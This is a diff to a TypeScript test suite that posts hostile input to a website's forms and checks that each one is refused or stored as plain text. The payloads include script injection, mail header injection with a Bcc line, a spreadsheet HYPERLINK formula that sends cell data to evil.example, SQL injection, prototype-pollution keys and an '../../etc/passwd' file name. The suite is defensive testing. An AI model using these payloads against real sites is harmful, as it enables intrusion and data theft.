@@ -1,8 +1,8 @@
-/** What nobody types by accident, sent to every address that takes a form: answered clearly, and kept as plain text. */
-import { spawnSync } from 'node:child_process';
+/** Hostile input for every address that accepts a form: it must be refused clearly or stored as plain text. */
 import { readdirSync, readFileSync } from 'node:fs';
 import { join } from 'node:path';
 import { beforeAll, describe, expect, inject, test } from 'vitest';
+import { commandLine } from '../cli/testing/run-command.ts';
 
 const siteUrl = inject('siteUrl');
 const dataFolder = inject('dataFolder');
@@ -18,7 +18,7 @@ const firm = {
   firm_size: '2-5',
 };
 
-/** Every form, with an answer that is accepted, and where its fields hold text of one's own. */
+/** Every form, with a valid answer and its free-text fields. */
 const forms = [
   {
     path: '/contact',
@@ -114,7 +114,7 @@ const json = { accept: 'application/json', 'content-type': 'application/json' };
 const postText = (path: string, text: string) => post(path, text, json);
 const postJson = (path: string, value: Sent) => postText(path, JSON.stringify(value));
 
-/** As a browser sends it. */
+/** Posts like a browser. */
 const postForm = (path: string, fields: Sent) =>
   post(
     path,
@@ -125,7 +125,6 @@ const postForm = (path: string, fields: Sent) =>
     { accept: 'text/html' },
   );
 
-/** What every refusal in JSON holds. */
 function expectError({ status, body }: Answer, expected: [number, string], context = '') {
   expect([context, status, body.error]).toEqual([context, ...expected]);
   expect(body).toMatchObject({
@@ -139,10 +138,8 @@ function expectError({ status, body }: Answer, expected: [number, string], conte
 
 const wrongFields = ({ body }: Answer) => Object.keys(body.fieldErrors ?? {});
 
-function leads(...args: string[]) {
-  const env = { ...process.env, DATA_DIR: dataFolder };
-  return spawnSync(process.execPath, ['cli/leads.ts', ...args], { env, encoding: 'utf8' }).stdout;
-}
+const { command } = commandLine({ DATA_DIR: dataFolder });
+const leads = async (...args: string[]) => (await command(args)).out;
 
 const escaped = (text: string) =>
   text.replaceAll('&', '&amp;').replaceAll('<', '&lt;').replaceAll('>', '&gt;').replaceAll('"', '&quot;');
@@ -156,7 +153,7 @@ describe.each(forms)('$path', ({ path, good, lines, notes, ruled }) => {
     ['an escape', 'a\u001b[31mb'],
     ['half a pair of surrogates', 'a\ud800b'],
     ['the other half', 'a\udfffb'],
-  ])('%s is an error of the field it stands in', async (_, text) => {
+  ])('%s is an error of its field', async (_, text) => {
     for (const field of all) {
       const answer = await postJson(path, { ...filled(), [field]: text });
       expectError(answer, [422, 'validation_failed'], field);
@@ -164,7 +161,7 @@ describe.each(forms)('$path', ({ path, good, lines, notes, ruled }) => {
     }
   });
 
-  test('a second header fits into no line', async () => {
+  test('header injection fails in every single-line field', async () => {
     for (const break_ of ['\r\n', '\n', '\r', '\u0085']) {
       for (const field of [...lines, ...ruled]) {
         const answer = await postJson(path, { ...filled(), [field]: `Lee${break_}Bcc: all@evil.example` });
@@ -174,7 +171,7 @@ describe.each(forms)('$path', ({ path, good, lines, notes, ruled }) => {
     }
   });
 
-  test('a field that is sent twice is asked for once', async () => {
+  test('a field sent twice is an error of that field', async () => {
     for (const field of all) {
       const answer = await postJson(path, { ...filled(), [field]: ['one', 'two'] });
       expectError(answer, [422, 'validation_failed'], field);
@@ -182,14 +179,14 @@ describe.each(forms)('$path', ({ path, good, lines, notes, ruled }) => {
     }
   });
 
-  test('an object where text belongs is no form', async () => {
+  test('an object in place of text is not a form', async () => {
     for (const field of all) {
       expectError(await postJson(path, { ...filled(), [field]: { $gt: '' } }), [400, 'malformed'], field);
       expectError(await postJson(path, { ...filled(), [field]: [['a']] }), [400, 'malformed'], field);
     }
   });
 
-  test('a number or a truth is read as the text it would be', async () => {
+  test('a number or boolean is read as text', async () => {
     for (const value of [7, true, -0.5]) {
       for (const field of all) {
         const { status } = await postJson(path, { ...filled(), [field]: value });
@@ -198,22 +195,19 @@ describe.each(forms)('$path', ({ path, good, lines, notes, ruled }) => {
     }
   });
 
-  test.runIf(lines.length > 0)(
-    'ten thousand characters are too many, and are given back to the last one',
-    async () => {
-      const long = `${'x'.repeat(9_990)}END of it.`;
-      for (const field of [...lines, ...notes]) {
-        const answer = await postJson(path, { ...filled(), [field]: long });
-        expectError(answer, [422, 'validation_failed'], field);
-        expect(wrongFields(answer)).toEqual([field]);
-        const page = await postForm(path, { ...filled(), [field]: long });
-        expect([field, page.status]).toEqual([field, 422]);
-        expect(page.text, field).toContain(long);
-      }
-    },
-  );
+  test.runIf(lines.length > 0)('ten thousand characters are too many, and are returned in full', async () => {
+    const long = `${'x'.repeat(9_990)}END of it.`;
+    for (const field of [...lines, ...notes]) {
+      const answer = await postJson(path, { ...filled(), [field]: long });
+      expectError(answer, [422, 'validation_failed'], field);
+      expect(wrongFields(answer)).toEqual([field]);
+      const page = await postForm(path, { ...filled(), [field]: long });
+      expect([field, page.status]).toEqual([field, 422]);
+      expect(page.text, field).toContain(long);
+    }
+  });
 
-  test.runIf(lines.length > 0)('markup is given back as the text it is', async () => {
+  test.runIf(lines.length > 0)('markup is returned escaped', async () => {
     const markup = `"'><script>alert(1)</script><img src=x onerror=alert(2)>{{price.setup}}</textarea></title>`;
     for (const field of [...lines, ...notes]) {
       const { status, text } = await postForm(path, { ...filled(), email: 'wrong', [field]: markup });
@@ -232,18 +226,18 @@ describe.each(forms)('$path', ({ path, good, lines, notes, ruled }) => {
     ['markup', '<b onmouseover="alert(1)">Lee</b> & "Co" {{price.setup}} #{7*7} %0d%0aBcc:'],
     ['a formula', '=HYPERLINK("https://evil.example/?"&A1,"open")'],
     ['a statement', `Robert'); DROP TABLE lead;--`],
-  ])('%s are kept as they are', async (_, text) => {
+  ])('%s are stored unchanged', async (_, text) => {
     const fields: Sent = { ...filled() };
     for (const field of [...lines, ...notes]) fields[field] = text.padEnd(12, '.');
     const answer = await postJson(path, fields);
     expect([answer.body, answer.status]).toEqual([expect.objectContaining({ ok: true }), 201]);
-    const shown = JSON.parse(leads('show', String(answer.body.id), '--json'));
+    const shown = JSON.parse(await leads('show', String(answer.body.id), '--json'));
     for (const field of [...lines, ...notes]) {
       expect(shown.lead.fields[field]).toBe(text.padEnd(12, '.').normalize('NFC'));
     }
   });
 
-  test('names that mean something to a program mean nothing here', async () => {
+  test('names with a special meaning in JavaScript are ordinary', async () => {
     for (const name of ['__proto__', 'constructor', 'prototype', 'toString', 'hasOwnProperty', 'then', '']) {
       const text = JSON.stringify({ ...filled(), zz: 'polluted' }).replace('"zz"', JSON.stringify(name));
       const answer = await postText(path, text);
@@ -253,7 +247,7 @@ describe.each(forms)('$path', ({ path, good, lines, notes, ruled }) => {
     }
   });
 
-  test('an object in place of a prototype is no form', async () => {
+  test('an object in place of a prototype is not a form', async () => {
     const text = JSON.stringify({ ...filled(), zz: { ok: true } }).replace('"zz"', '"__proto__"');
     expectError(await postText(path, text), [400, 'malformed']);
   });
@@ -291,21 +285,21 @@ describe.each(forms)('$path', ({ path, good, lines, notes, ruled }) => {
     'application/x-www-form-urlencoded; charset=iso-8859-1',
     'application/octet-stream',
     'multipart/mixed; boundary=x',
-  ])('%s is not taken', async (type) => {
+  ])('%s is refused', async (type) => {
     const answer = await post(path, 'name=Lee', { accept: 'application/json', 'content-type': type });
     expectError(answer, [415, 'unsupported_type']);
     expect((await post(path, 'name=Lee', { accept: 'text/html', 'content-type': type })).status).toBe(415);
   });
 
   test.each(['multipart/form-data', 'multipart/form-data; boundary=', 'multipart/form-data; boundary=x'])(
-    '%s around nothing is damaged',
+    '%s without a valid body is damaged',
     async (type) => {
       const answer = await post(path, 'name=Lee', { accept: 'application/json', 'content-type': type });
       expectError(answer, [400, 'malformed']);
     },
   );
 
-  test('bytes that are no text are damaged', async () => {
+  test('invalid UTF-8 is damaged', async () => {
     const answer = await post(path, 'name=%FF%FE', {
       accept: 'application/json',
       'content-type': 'application/x-www-form-urlencoded',
@@ -313,7 +307,7 @@ describe.each(forms)('$path', ({ path, good, lines, notes, ruled }) => {
     expectError(answer, [400, 'malformed']);
   });
 
-  test('a file is not taken', async () => {
+  test('a file is refused', async () => {
     const body = new FormData();
     for (const [name, value] of Object.entries(filled())) body.append(name, String(value));
     body.append('name', new Blob(['MZ\0\x01']), '../../etc/passwd');
@@ -330,7 +324,7 @@ describe.each(forms)('$path', ({ path, good, lines, notes, ruled }) => {
     expect((await postForm(path, { ...filled(), name: much })).status).toBe(413);
   });
 
-  test('a pretended token, key or solution', async () => {
+  test('a forged token, key or solution', async () => {
     for (const value of ['x', '\0', 'A'.repeat(3_000), '../..', '\u{1f9fe}', 'AA.1']) {
       const fields = { ...filled(), form_token: value, pow: value };
       expect([201, 422]).toContain((await postJson(path, fields)).status);
@@ -342,14 +336,14 @@ describe.each(forms)('$path', ({ path, good, lines, notes, ruled }) => {
     expect((await postJson(path, lists)).status).toBe(201);
   });
 
-  test('a key for repetition that is none', async () => {
+  test('an invalid idempotency key', async () => {
     for (const key of ['short', 'with a space in it', 'x'.repeat(129)]) {
       const answer = await post(path, JSON.stringify(filled()), { ...json, 'idempotency-key': key });
       expectError(answer, [422, 'validation_failed']);
     }
   });
 
-  test('an address of origin and a source that are full of tricks', async () => {
+  test('a hostile landing page and source', async () => {
     const source = '?utm_source=%00%0d%0aBcc:&utm_medium=%ED%A0%80&utm_campaign=__proto__&__proto__=1';
     const headers = { ...json, referer: 'https://evil.example/"><script>\u00ff' };
     const answer = await post(`${path}${source}`, JSON.stringify(filled()), headers);
@@ -376,7 +370,7 @@ describe('a call', () => {
     ['/cancel', 'reason'],
   ] as const;
 
-  test.each(changes)('%s with tricks in "%s" leaves the call as it is', async (change, field) => {
+  test.each(changes)('%s with hostile values in "%s" leaves the call unchanged', async (change, field) => {
     const other = change === '/reschedule' ? { slot: '2031-01-01T17:00:00Z', timezone: 'UTC' } : {};
     for (const text of ['a\0b', 'a\ud800b', 'a\u001bb', 'x'.repeat(6_000), '\0']) {
       const answer = await postJson(place + change, { ...other, [field]: text });
@@ -396,7 +390,7 @@ describe('a call', () => {
     expect(await state.json()).toMatchObject({ booking: { status: 'confirmed', sequence: 0 } });
   });
 
-  test('a reason full of markup cancels, and is kept as text', async () => {
+  test('a reason full of markup cancels, and is stored as text', async () => {
     const reason = '=1+1 <script>alert(1)</script> 🧾 ‮עברית\r\nBcc: all@evil.example';
     const answer = await postJson(`${place}/cancel`, { reason });
     expect([answer.status, answer.body]).toEqual([
@@ -406,26 +400,23 @@ describe('a call', () => {
     expect((await fetch(siteUrl + place)).status).not.toBe(500);
   });
 
-  test.each(['abc', 'a'.repeat(99), '__proto__', '%00', '..%2f..'])(
-    'a pretended link "%s"',
-    async (token) => {
-      for (const change of ['/reschedule', '/cancel']) {
-        const answer = await postJson(`/bookings/${token}${change}`, { reason: 'x', slot: '' });
-        expect([404, 405]).toContain(answer.status);
-      }
-    },
-  );
+  test.each(['abc', 'a'.repeat(99), '__proto__', '%00', '..%2f..'])('a forged link "%s"', async (token) => {
+    for (const change of ['/reschedule', '/cancel']) {
+      const answer = await postJson(`/bookings/${token}${change}`, { reason: 'x', slot: '' });
+      expect([400, 404, 405]).toContain(answer.status);
+    }
+  });
 });
 
-describe('what was kept', () => {
-  test('is no formula in a spreadsheet', () => {
-    const table = leads('export', '--limit', 'all');
+describe('stored input', () => {
+  test('is not a formula in a spreadsheet', async () => {
+    const table = await leads('export', '--limit', 'all');
     expect(table).toContain(`"'=HYPERLINK(""https://evil.example/?""&A1,""open"")`);
     expect(table).not.toMatch(/(^|,)"?[=@]/m);
     expect(table).not.toContain('\0');
   });
 
-  test('is no header of a mail', async () => {
+  test('is not a header of a mail', async () => {
     const mails = () => readdirSync(join(dataFolder, 'mail')).filter((name) => name.endsWith('.eml'));
     await expect.poll(() => mails().length, { timeout: 30_000 }).toBeGreaterThan(20);
     for (const name of mails()) {
@@ -435,7 +426,7 @@ describe('what was kept', () => {
     }
   });
 
-  test('is no markup of a mail', () => {
+  test('is not markup in a mail', () => {
     for (const name of readdirSync(join(dataFolder, 'mail'))) {
       const text = readFileSync(join(dataFolder, 'mail', name), 'utf8').replaceAll(/=\r?\n/g, '');
       const html = text.slice(text.indexOf('text/html'));
@@ -443,10 +434,10 @@ describe('what was kept', () => {
     }
   });
 
-  test('leaves the pages as they were, and everything that is counted readable', async () => {
+  test('leaves pages unchanged and all counts readable', async () => {
     expect((await fetch(`${siteUrl}/contact`)).status).toBe(200);
     expect((await fetch(`${siteUrl}/readyz`)).status).toBe(200);
     expect(Object.hasOwn(Object.prototype, 'polluted')).toBe(false);
-    expect(JSON.parse(leads('stats', '--json'))).toEqual(expect.any(Object));
+    expect(JSON.parse(await leads('stats', '--json'))).toEqual(expect.any(Object));
   });
 });
